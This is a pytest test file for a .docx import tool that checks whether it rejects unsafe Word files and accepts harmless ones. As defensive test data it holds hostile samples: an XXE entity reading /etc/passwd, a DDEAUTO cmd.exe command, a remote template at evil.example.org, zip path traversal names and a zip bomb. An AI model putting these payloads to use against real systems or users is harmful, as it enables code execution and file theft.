"""What is refused at the door, with its rule, and what may pass; nothing is ever half-written."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from word.docx_builders import EVENT, OFFICE, docx, paragraph, picture, png, run

Command = Callable[..., int]
TEXT = (paragraph("Tên bài viết", "Title"), paragraph("ThS. Lê Văn Cường"), paragraph("Nội dung."))
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(512)


def external(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(*TEXT, relations=relation)


def inner(kind: str) -> bytes:
    return docx(*TEXT, relations=f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="x.bin"/>')


def with_member(name: str, data: bytes = b"x") -> bytes:
    target = io.BytesIO(docx(*TEXT))
    with zipfile.ZipFile(target, "a") as archive, pytest.warns(UserWarning) if name in _DOUBLE else io.BytesIO():
        archive.writestr(name, data)
    return target.getvalue()


_DOUBLE = ("word/document.xml",)


def ole(program: str, kind: str = "Embed") -> str:
    space = "urn:schemas-microsoft-com:office:office"
    return (
        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="{space}" Type="{kind}" ProgID="{program}"/></w:object></w:r></w:p>'
    )


def document(xml: str) -> bytes:
    return docx(parts={"word/document.xml": xml})


def deep() -> bytes:
    return docx(*TEXT, "<w:sdt>" * 200 + "</w:sdt>" * 200)


def bomb() -> bytes:
    return docx(*TEXT, parts={"word/media/image1.png": bytes(9_000_000)})


def lying_size() -> bytes:
    """The central directory claims that a part is tiny."""
    content = bytearray(docx(*TEXT))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo("word/document.xml").file_size.to_bytes(4, "little")
    place = content.rfind(b"word/document.xml") - 46 + 24
    assert content[place : place + 4] == size
    content[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def legacy() -> bytes:
    fonts = '<w:rFonts w:ascii=".VnTime" w:hAnsi=".VnTime"/>'
    return docx(*TEXT, paragraph(run("§æi míi c«ng t¸c kiÓm tra", fonts)))


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a zip": (lambda: b"hello", "KY901: Tệp không phải .docx"),
    "pdf": (lambda: b"%PDF-1.7", "KY901: Tệp không phải .docx mà là PDF"),
    "old doc": (lambda: OLE + "WordDocument".encode("utf-16-le"), "KY901: Tệp là định dạng Word cũ (.doc)"),
    "password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "KY901: Tệp có mật khẩu"),
    "broken zip": (lambda: docx(*TEXT)[:400], "KY901: Tệp .docx bị hỏng"),
    "lying size": (lying_size, "KY901: Tệp .docx bị hỏng"),
    "two documents": (lambda: with_member("word/document.xml"), "KY901: Tệp .docx chứa hai phần cùng tên"),
    "two documents by case": (lambda: with_member("Word/Document.xml"), "KY901: Tệp .docx chứa hai phần cùng tên"),
    "climbing name": (lambda: with_member("word/media/../../x.png"), "KY901: Tệp .docx chứa đường dẫn không an toàn"),
    "absolute name": (lambda: with_member("/etc/x.png"), "KY901: Tệp .docx chứa đường dẫn không an toàn"),
    "backslash": (lambda: with_member("word\\..\\x.png"), "KY901: Tệp .docx chứa đường dẫn không an toàn"),
    "bomb": (bomb, "KY904: Phần “word/media/image1.png” nén bất thường"),
    "huge image": (lambda: docx(*TEXT, parts={"word/media/i.png": bytes(11_000_000)}), "KY904: Hình"),
    "huge part": (lambda: docx(*TEXT, parts={"word/x.xml": b" " * 31_000_000}), "KY904: Phần “word/x.xml” quá lớn"),
    "deep": (deep, "KY904: Phần “word/document.xml” lồng quá sâu"),
    "dtd": (
        lambda: document('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "KY902: Phần “word/document.xml” có khai báo DTD",
    ),
    "broken xml": (lambda: document("<w:document"), "KY901: Phần “word/document.xml” bị hỏng"),
    "no text document": (
        lambda: document('<document xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"/>'),
        "KY901: Phần nội dung của tệp không phải văn bản Word thông thường",
    ),
    "external image": (lambda: external("image", "http://127.0.0.1:9/x.png"), "KY902: Tệp chứa hình liên kết"),
    "remote template": (lambda: external("attachedTemplate", "http://127.0.0.1:9/x.dotm"), "KY902: Tệp chứa mẫu"),
    "share template": (
        lambda: external("attachedTemplate", r"file:///\\evil.example.org\x.dotm"),
        "KY902: Tệp chứa mẫu",
    ),
    "external frame": (lambda: external("frame", "http://127.0.0.1:9/"), "KY902: Tệp chứa khung"),
    "external ole": (lambda: external("oleObject", "file:///x.xls"), "KY902: Tệp chứa đối tượng OLE"),
    "attached program": (lambda: docx(*TEXT, ole("Package")), "KY902: Tệp chứa đối tượng nhúng"),
    "linked object": (lambda: docx(*TEXT, ole("Excel.Sheet.12", "Link")), "KY902: Tệp chứa đối tượng OLE liên kết"),
    "embedded document": (lambda: inner("aFChunk"), "KY902: Tệp nhúng nguyên một tài liệu khác"),
    "macro part": (lambda: with_member("word/vbaProject.bin"), "KY902: Tệp chứa macro"),
    "macro type": (
        lambda: docx(*TEXT, main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "KY902: Tệp chứa macro",
    ),
    "dde": (
        lambda: docx(*TEXT, paragraph(run('DDEAUTO c:\\\\cmd.exe "/k calc"', tag="instrText"))),
        "KY902: Tệp chứa lệnh DDE",
    ),
    "legacy letters": (
        legacy,
        "Văn bản có chữ bảng mã cũ, chưa phải Unicode – TCVN3, phông .VnTime: 6 chữ cái ở 1 chỗ (run), "
        "“§æi míi c«ng t¸c kiÓm tra” → “Đổi mới công tác kiểm tra”.",
    ),
    "metafile": (
        lambda: docx(
            *TEXT,
            paragraph(picture("rIdEmf")),
            relations=f'<Relationship Id="rIdEmf" Type="{OFFICE}/image" Target="media/i.emf"/>',
            parts={"word/media/i.emf": b"\1\0\0\0"},
        ),
        "KY901: Hình thứ 1 là EMF",
    ),
    "no picture": (
        lambda: docx(*TEXT, paragraph(picture()), parts={"word/media/image1.png": b"<script>"}),
        "KY901: Hình hinh-1.png không đúng là tệp PNG",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str, root: Path, command: Command, capsys: pytest.CaptureFixture[str]) -> None:
    make, message = REFUSED[name]
    before = sorted(root.rglob("*"))
    assert command(make(), "--slug", "bai") == 2
    out, err = capsys.readouterr()
    assert err.startswith(message)
    assert err.count("\n") == 1
    assert out == ""
    assert sorted(root.rglob("*")) == before


@pytest.mark.parametrize(
    "make",
    [
        lambda: external("hyperlink", "http://example.org/"),
        lambda: external("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"),
        lambda: docx(*TEXT, paragraph(picture()), parts={"word/media/image1.png": png()}),
        lambda: docx(*TEXT, paragraph(run("Chỉ khai phông cũ: Đổi mới", '<w:rFonts w:hAnsi=".VnTime"/>'))),
        lambda: with_member("customXml/item1.xml", b"<a/>"),
    ],
)
def test_harmless_neighbours_pass(make: Callable[[], bytes], root: Path, command: Command) -> None:
    assert command(make(), "--slug", "bai") == 0
    assert (root / "papers" / EVENT / "bai.md").is_file()
